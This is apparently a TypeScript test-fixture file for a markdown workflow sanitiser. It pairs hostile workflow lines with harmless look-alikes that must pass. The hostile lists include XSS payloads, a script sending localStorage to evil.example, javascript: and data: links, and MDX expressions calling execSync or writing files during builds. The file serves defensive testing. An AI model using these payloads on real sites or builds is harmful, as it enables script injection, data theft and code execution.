/** Workflow body lines a hostile contributor tried, and harmless look-alikes that must pass. */

/** Each vector a hostile contributor tried, as a line of a workflow body. */
export const HOSTILE: [string, string][] = [
	['an import', "import fs from 'node:fs'"],
	['an export', 'export const owned = true'],
	['an expression running a command', "{require('node:child_process').execSync('id')}"],
	['an expression importing a module', "{await import('node:fs')}"],
	['a script that sends localStorage away', '<script>fetch("https://evil.example/?" + localStorage.praxis)</script>'],
	['an image with an event handler', '<img src="x" onError="alert(1)" />'],
	['a javascript: link', '[Open the checklist](javascript:alert(document.cookie))'],
	['a data: link', '[Checklist](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
	['an iframe', '<iframe src="https://evil.example/"></iframe>'],
	['a style block', '<style>body { display: none }</style>'],
	['an HTML comment', '<!-- hidden -->'],
	['a component', '<Checklist items="x" />'],
	['a reference-style javascript: link', '[checklist]: javascript:alert(1)'],
];

/** What looks close but is plain text or code, and must pass. */
export const HARMLESS: [string, string][] = [
	['escaped braces', 'Fill in \\{customer_name\\} before sending.'],
	['an escaped heart', 'The team \\<3 this workflow.'],
	['code with braces and tags', 'Write `{name}` and `<script>` literally.'],
	['a fenced block of code', '```js\n{require("x")}\n<script>alert(1)</script>\nimport x from "y"\n```'],
	['an https link', '[The policy](https://intranet.example/policy)'],
	['the word javascript in prose', 'It explains javascript: the language, not a link.'],
	['an internal link', 'See [the contract workflow](/workflows/nda-first-pass-review/).'],
];

/** Payloads that would write `marker` if anything ran them, for the build tests. */
export const RUNNING_PAYLOADS = (marker: string): [string, string][] => [
	['an expression running a command', `{require('node:child_process').execSync('touch ${marker}')}`],
	['an expression importing a module', `{await import('node:fs').then((fs) => fs.writeFileSync('${marker}', 'x'))}`],
	['an exported statement', `export const owned = require('node:fs').writeFileSync('${marker}', 'x')`],
];
